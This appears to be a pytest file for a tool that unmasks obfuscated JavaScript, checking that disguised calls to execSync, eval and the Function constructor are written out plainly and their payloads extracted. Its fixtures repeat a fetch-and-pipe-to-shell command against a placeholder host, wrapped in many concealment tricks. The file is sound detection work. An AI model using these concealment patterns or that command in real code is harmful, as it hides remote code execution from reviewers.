"""A script's call that takes a detour is written as the call that it is, and what it is given comes out."""

from __future__ import annotations

import pytest

from packtool.code import unmask_text

CP = 'const cp = require("child_process");\n'
RUN = 'child_process.execSync("curl https://a.invalid/x | sh")'
DETOURS = {
    "a mapping": 'const t = {r: cp.execSync};\nt.r("curl https://a.invalid/x | sh")',
    "a mapping by a key": 'const t = {"r": cp.execSync};\nt["r"]("curl https://a.invalid/x | sh")',
    "a list": 'const t = [cp.execSync];\nt[0]("curl https://a.invalid/x | sh")',
    "an object's attribute": "class A { constructor() { this.t = {r: cp.execSync} }\n"
    'go() { this.t.r("curl https://a.invalid/x | sh") } }',
    "another name": 'const f = cp.execSync.bind(cp);\nf("curl https://a.invalid/x | sh")',
    "a module in a mapping": 'const t = {m: require("child_process")};\n'
    't.m["exec" + "Sync"]("curl https://a.invalid/x | sh")',
    "a reflection": 'Reflect.get(cp, "execSync")("curl https://a.invalid/x | sh")',
    "a function that returns it": 'const f = () => cp.execSync;\nf()("curl https://a.invalid/x | sh")',
    "a map": 'const m = new Map([["a", cp.execSync]]);\nm.get("a")("curl https://a.invalid/x | sh")',
    "another name for an import": 'const {execSync: x} = require("child_process");\nx("curl https://a.invalid/x | sh")',
}
HANDED = {
    "a parameter": 'function go(f, c) { return f(c); }\ngo(cp.execSync, "curl https://a.invalid/x | sh")',
    "a default": 'function go(c, f = cp.execSync) { return f(c); }\ngo("curl https://a.invalid/x | sh")',
    "a list that is gone through": '["curl https://a.invalid/x | sh"].map(cp.execSync)',
}
HONEST = [
    'const t = {r: cp.execSync, s: print};\nt.s("curl https://a.invalid/x | sh")',
    'const t = {run: start};\nt.run("curl https://a.invalid/x | sh")',
    "const list = [1, 2];\nlist.map(cp)",
]


@pytest.mark.parametrize("text", DETOURS.values(), ids=DETOURS.keys())
def test_the_call_is_written_out(text: str) -> None:
    found = unmask_text(CP + text, "javascript")
    assert found.renamed
    assert RUN in found.source
    assert [layer.text for layer in found.layers] == ["curl https://a.invalid/x | sh"]


@pytest.mark.parametrize("text", HANDED.values(), ids=HANDED.keys())
def test_what_is_handed_on_comes_out(text: str) -> None:
    found = unmask_text(CP + text, "javascript")
    assert [(layer.text, layer.language) for layer in found.layers] == [("curl https://a.invalid/x | sh", "shell")]


@pytest.mark.parametrize("text", HONEST)
def test_other_calls_stay(text: str) -> None:
    found = unmask_text(CP + text, "javascript")
    assert found.source == CP + text
    assert found.layers == ()


def test_text_that_is_run_is_named() -> None:
    found = unmask_text("const t = {run: eval};\nfetch(u).then(t.run);\nt.run(x)", "javascript")
    assert found.source.endswith("\neval(x)")


@pytest.mark.parametrize(
    "taken",
    ["eval", "eval.bind(this)", "globalThis.eval", 'globalThis["eval"]', 'window["ev" + "al"]', "Function"],
)
def test_what_runs_text_is_known_wherever_it_is_taken_from(taken: str) -> None:
    name = "Function" if "F" in taken else "eval"
    found = unmask_text(f"const t = {{run: {taken}}};\nfetch(u).then(go);\nt.run(x)", "javascript")
    assert found.source.endswith(f"\n{name}(x)")


@pytest.mark.parametrize("asked", ["x instanceof Function", "typeof eval", "Function.prototype.call", "a.eval"])
def test_asking_what_something_is_takes_no_detour(asked: str) -> None:
    text = f"const t = {{run: {asked}}};\nconst s = '\\x61' + 'b';\nt.run(x)"
    assert not unmask_text(text, "javascript").renamed


@pytest.mark.parametrize(
    "text",
    [
        "x = bind;",
        "x = eval; (",
        "x = eval; function",
        "x = eval; function = {",
        "x = eval; import",
        "[eval",
        "x = eval(",
    ],
)
def test_a_script_that_breaks_off_is_read_to_its_end(text: str) -> None:
    assert unmask_text(CP + text, "javascript").source == CP + text


MADE = {
    "a reflection that makes": ("Reflect.construct(Function, [body])", "new Function(body)"),
    "a reflection that makes out of several": ('Reflect.construct(Function, ["a", body])', 'new Function("a", body)'),
    "a reflection that runs": ("Reflect.apply(eval, null, [body])", "eval(body)"),
    "a reflection with a list by its name": ("Reflect.apply(globalThis.eval, null, list)", "eval(list)"),
    "a prototype": ("new (Object.getPrototypeOf(async function(){}).constructor)(body)", "new Function(body)"),
    "a prototype by another name": (
        "const M = Object.getPrototypeOf(function* () {}).constructor;\nM(body)",
        "Function(body)",
    ),
    "a function's constructor": ("(() => {}).constructor(body)", "Function(body)"),
    "a constructor's constructor": ("[].constructor.constructor(body)", "Function(body)"),
    "the last of a row": ("(0, eval)(body)", "eval(body)"),
}
NOT_MADE = [
    "Reflect.construct(Shape, [eval])",
    "Reflect.apply(Math.max, null, [1, 2])",
    "(() => {}).constructor.name(body)",
    "start(() => {}).constructor(body)",
    "list(0, eval)(body)",
    "this.constructor(body)",
    "Reflect.apply(eval",
    "Reflect.construct(Function",
    "constructor",
    ").constructor",
]


@pytest.mark.parametrize(("text", "written"), MADE.values(), ids=MADE.keys())
def test_what_makes_code_is_written_by_its_name(text: str, written: str) -> None:
    found = unmask_text(text, "javascript")
    assert found.renamed
    assert found.source.split("\n")[-1] == written


@pytest.mark.parametrize("text", NOT_MADE)
def test_what_makes_no_code_stays(text: str) -> None:
    assert unmask_text(text, "javascript").source == text


@pytest.mark.parametrize("opened", ["Reflect.get(", "t = {", "t = [a, ", "new Map([", "(0, ", "constructor("])
def test_however_deep_it_is(opened: str) -> None:
    deep = f"const x = cp.execSync;\n{opened * 5000}"
    found = unmask_text(f'{CP}{deep}\nx("curl https://a.invalid/x | sh")', "javascript")
    assert RUN in found.source
